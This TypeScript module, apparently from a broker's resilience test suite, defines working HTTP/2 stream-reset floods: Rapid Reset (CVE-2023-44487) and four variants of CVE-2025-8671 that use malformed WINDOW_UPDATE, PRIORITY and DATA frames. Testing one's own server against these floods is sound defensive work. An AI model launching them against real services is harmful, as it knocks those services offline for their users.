/** Streams that are begun and broken off, by the client (CVE-2023-44487) or so that the server has to do it (CVE-2025-8671). */
import { Frame, frame, headersFrame, messageFrame, resetFrame } from '../../support/http2-frames.ts';
import { type Attack, type Attacker, streamIds, uint32 } from './attacker.ts';

const BURST = 100;
const PUBLISH = '/broker.Broker/Publish';
const SUBSCRIBE = '/broker.Broker/Subscribe';

/** Calls in bursts, each with what breaks it off. */
function resets(path: string, breakOff: (stream: number) => readonly Buffer[]) {
  return (attacker: Attacker): Promise<void> =>
    attacker.onConnections(4, {}, async (connection) => {
      const ids = streamIds();
      while (!connection.isClosed && !attacker.isOver) {
        const parts: Buffer[] = [];
        for (let i = 0; i < BURST; i++) {
          const stream = ids.next().value;
          parts.push(headersFrame(stream, path), ...breakOff(stream));
        }
        await connection.write(...parts);
        attacker.count('calls', BURST);
        await attacker.breathe();
      }
    });
}

const BAD_MESSAGE = Buffer.from('s');

export const RESETS: readonly Attack[] = [
  {
    name: 'rapid-reset',
    about: 'calls that are cancelled in the same packet',
    isTold: true,
    run: resets(SUBSCRIBE, (stream) => [messageFrame(stream, BAD_MESSAGE), resetFrame(stream)]),
  },
  {
    name: 'made-you-reset-window',
    about: 'WINDOW_UPDATE of 0 on a stream that was just begun',
    run: resets(PUBLISH, (stream) => [frame(Frame.WINDOW_UPDATE, 0, stream, uint32(0))]),
  },
  {
    name: 'made-you-reset-overflow',
    about: 'WINDOW_UPDATE beyond 2^31-1 on a stream that was just begun',
    run: resets(PUBLISH, (stream) => [frame(Frame.WINDOW_UPDATE, 0, stream, uint32(0x7fff_ffff))]),
  },
  {
    name: 'made-you-reset-priority',
    about: 'streams that depend on themselves, and PRIORITY of a wrong length',
    run: resets(PUBLISH, (stream) => [
      frame(Frame.PRIORITY, 0, stream, Buffer.concat([uint32(stream), Buffer.from([1])])),
      frame(Frame.PRIORITY, 0, stream, Buffer.alloc(4)),
    ]),
  },
  {
    name: 'made-you-reset-data',
    about: 'DATA behind the end of a stream',
    run: resets(PUBLISH, (stream) => [messageFrame(stream, BAD_MESSAGE), messageFrame(stream, BAD_MESSAGE)]),
  },
];
